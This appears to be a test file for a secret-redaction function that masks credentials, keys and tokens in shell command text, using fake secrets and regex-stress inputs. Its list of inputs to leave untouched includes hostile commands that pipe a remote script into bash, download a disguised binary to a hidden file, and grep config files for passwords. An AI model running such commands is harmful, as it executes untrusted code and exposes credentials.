import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redactText } from '../../../forwarder/redact/redact.js';

const PEM = [
  '-----BEGIN OPENSSH PRIVATE KEY-----',
  'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW',
  'QyNTUxOQAAACBQk6ubJGfqz5T0Q0EyWq2y7yo1EKUMGCmoLz2X7y6mCgAAAJg3uWQXN7lk',
  '-----END OPENSSH PRIVATE KEY-----',
].join('\n');

// [input, secret that must disappear, kind counted, text that must stay]
const CASES: [string, string, string, string][] = [
  [
    'aws configure set aws_access_key_id AKIAUJZDEGXDNCF32EPF',
    'AKIAUJZDEGXDNCF32EPF',
    'aws-access-key-id',
    'aws configure set aws_access_key_id',
  ],
  [
    'export AWS_SECRET_ACCESS_KEY=2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    '2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    'aws-secret-access-key',
    'export AWS_SECRET_ACCESS_KEY=',
  ],
  [
    'aws_secret_access_key = 2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    '2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    'aws-secret-access-key',
    'aws_secret_access_key = ',
  ],
  [
    'AWS Secret Access Key [****************R5Kj]: 2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    '2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    'aws-secret-access-key',
    'AWS Secret Access Key',
  ],
  [
    'echo AKIAUJZDEGXDNCF32EPF 2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj >> creds',
    '2hpChYgCfrL1spNxnyVmihA+2O76UMFxFkM+R5Kj',
    'aws-secret-access-key',
    '>> creds',
  ],
  [
    'export AWS_SESSION_TOKEN=IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDx',
    'IQoJb3JpZ2luX2VjEJr',
    'aws-session-token',
    'export AWS_SESSION_TOKEN=',
  ],
  [
    `cat > k <<'EOF'\n${PEM}\nEOF`,
    'QyNTUxOQAAACBQk6ubJGfqz5T0Q0EyWq2y7yo1EKUMGCmoLz2X7y6mCgAAAJg3uWQXN7lk',
    'private-key',
    "cat > k <<'EOF'",
  ],
  [
    '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
    'MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
    'private-key',
    '',
  ],
  [
    'I6dVMVygLL8T1IT8BGNkNYNlUNEKlj6ovZnDgPHa3pMLY3HzHEMmbgUX',
    'I6dVMVygLL8T1IT8BGNkNYNlUNEKlj6ovZnDgPHa3pMLY3HzHEMmbgUX',
    'pem-body',
    '',
  ],
  [
    'curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl" https://api',
    'eyJhbGciOiJIUzI1NiJ9',
    'authorization-header',
    'Authorization: Bearer ',
  ],
  [
    'echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl | base64 -d',
    'eyJzdWIiOiJhbGljZSJ9',
    'jwt',
    '| base64 -d',
  ],
  ["curl -H 'X-Api-Key: k3y-0f-mine' https://api", 'k3y-0f-mine', 'authorization-header', 'X-Api-Key: '],
  [
    'mysql -h db -u admin -pCorrectHorse42 -e "show databases"',
    'CorrectHorse42',
    'password',
    'mysql -h db -u admin -p',
  ],
  ["mysqldump -uroot -p'se cret' app > dump.sql", 'se cret', 'password', '> dump.sql'],
  ['psql --password=Tr0ub4dor&3 -h db', 'Tr0ub4dor', 'password', '--password='],
  ['mongo --password s3cretpass --host db', 's3cretpass', 'password', '--host db'],
  ["sshpass -p 'Hunter22x' ssh admin@10.0.0.5 uptime", 'Hunter22x', 'password', 'ssh admin@10.0.0.5 uptime'],
  ['PGPASSWORD=pgpass123 psql -h db.internal -U app', 'pgpass123', 'token', 'psql -h db.internal -U app'],
  ['MYSQL_PWD="my pwd" mysql -u app', 'my pwd', 'token', 'mysql -u app'],
  ['curl -su deploy:TopSecret99 https://artifacts.internal/api', 'TopSecret99', 'password', 'deploy:'],
  ['curl --user deploy:TopSecret99 https://x', 'TopSecret99', 'password', 'deploy:'],
  ['psql postgres://app:db-pa55@db.internal:5432/app', 'db-pa55', 'url-credentials', 'postgres://app:'],
  ['redis-cli -u redis://:r3dispass@cache:6379', 'r3dispass', 'url-credentials', '@cache:6379'],
  ['wget "https://example.com/dl?token=abcdef123456&x=1"', 'abcdef123456', 'token', '&x=1'],
  [
    'curl https://api.example.com/v1?apikey=ZXhhbXBsZWtleQ',
    'ZXhhbXBsZWtleQ',
    'token',
    'https://api.example.com/v1?apikey=',
  ],
  ["echo 'ssm-user:N3wPass' | sudo chpasswd", 'N3wPass', 'password', '| sudo chpasswd'],
  ["echo 'L0calRootPw' | sudo -S whoami", 'L0calRootPw', 'password', 'sudo -S whoami'],
  ['openssl rsa -in k.pem -passin pass:keypass1 -out k2.pem', 'keypass1', 'password', '-out k2.pem'],
  ['docker login -u ci -p dckr_pat_abc123 registry.example.com', 'dckr_pat_abc123', 'password', 'registry.example.com'],
  [
    'git clone https://ghp_0123456789abcdefghijABCDEFGHIJ012345@github.com/o/r',
    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'token',
    'github.com/o/r',
  ],
  [
    'export GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'token',
    'export GITHUB_TOKEN=',
  ],
  ['ssh-keygen -t ed25519 -N "my passphrase" -f key', 'my passphrase', 'password', '-f key'],
  ['smbclient //fs/share -U admin%Sh4reP4ss', 'Sh4reP4ss', 'password', '-U admin%'],
];

describe('redactText', () => {
  it.each(CASES)('masks %s', (input, secret, kind, kept) => {
    const r = redactText(input);
    expect(r.text).not.toContain(secret);
    expect(r.text).toContain(kept);
    expect(r.counts[kind as keyof typeof r.counts]).toBeGreaterThanOrEqual(1);
    expect(r.total).toBeGreaterThanOrEqual(1);
  });

  it.each([
    'mkdir -p /tmp/build && cd /tmp/build',
    'ssh -p 2222 admin@bastion',
    'sudo -u root bash',
    'docker run -u 1000:1000 --rm alpine id',
    'git show 3f2a9c1e5b7d4a6c8e0f1a2b3c4d5e6f7a8b9c0d',
    'echo $PWD && cd $OLDPWD',
    'PWD=/srv/app make',
    'docker login --password-stdin -u ci registry.example.com',
    'curl -fsSL http://dl.bad-cdn.top/install.sh | bash',
    'curl http://good@evil.example/x',
    'sha256sum -c <<< "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  f"',
    'mysql -u admin -p -h db.internal',
    'wget -q http://203.0.113.66/x86_64/kworker -O .kw',
    'aws sts get-caller-identity --query Arn --output text',
    'grep -r password /etc/app/',
  ])('leaves %s alone', (input) => {
    const r = redactText(input);
    expect(r.text).toBe(input);
    expect(r.total).toBe(0);
  });

  it('counts each secret by kind', () => {
    const r = redactText('AKIAUJZDEGXDNCF32EPF and ASIAUJZDEGXDNCF32EPG; mysql -pX1y2z3 db');
    expect(r.counts).toEqual({ 'aws-access-key-id': 2, password: 1 });
    expect(r.total).toBe(3);
  });

  it('gives a repeated text the same result, which no caller can change for the next', () => {
    const text = 'mysql -u admin -pS3cretPw db';
    const first = redactText(text);
    expect(() => {
      (first.counts as Record<string, number>).password = 0;
    }).toThrow(TypeError);
    expect(redactText(text)).toEqual({
      text: 'mysql -u admin -p[REDACTED:password] db',
      counts: { password: 1 },
      total: 1,
    });
    // a paste too long to keep is redacted afresh each time, with the same result
    const paste = `${'x'.repeat(5000)} ${text}`;
    expect(redactText(paste).counts).toEqual({ password: 1 });
    expect(redactText(paste).text).toBe(redactText(paste).text);
  });

  it('is idempotent: redacting twice masks nothing more', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), fc.constantFrom(...CASES.map((c) => c[0])), (noise, secretLine) => {
        const once = redactText(`${noise} ${secretLine} ${noise}`);
        const twice = redactText(once.text);
        expect(twice.text).toBe(once.text);
        expect(twice.total).toBe(0);
      }),
      { numRuns: 300 },
    );
  });

  it('finishes on inputs built to make a backtracking regex explode', () => {
    const hostile = [
      'a'.repeat(200_000),
      '-'.repeat(100_000),
      `-----BEGIN PRIVATE KEY-----${'A'.repeat(100_000)}`,
      `${'--pass '.repeat(20_000)}x`,
      `mysql ${' -x'.repeat(50_000)} -p`,
      `${'password'.repeat(20_000)}=`,
      `postgres://${'u'.repeat(50_000)}:`,
      `Authorization: ${'Bearer '.repeat(10_000)}`,
      `"${'x_'.repeat(30_000)}password": "`,
      `curl ${'-u a:'.repeat(20_000)}`,
      `eyJ${'a'.repeat(50_000)}.eyJ${'b'.repeat(50_000)}`,
    ];
    for (const input of hostile) expect(typeof redactText(input).text).toBe('string');
  });
});
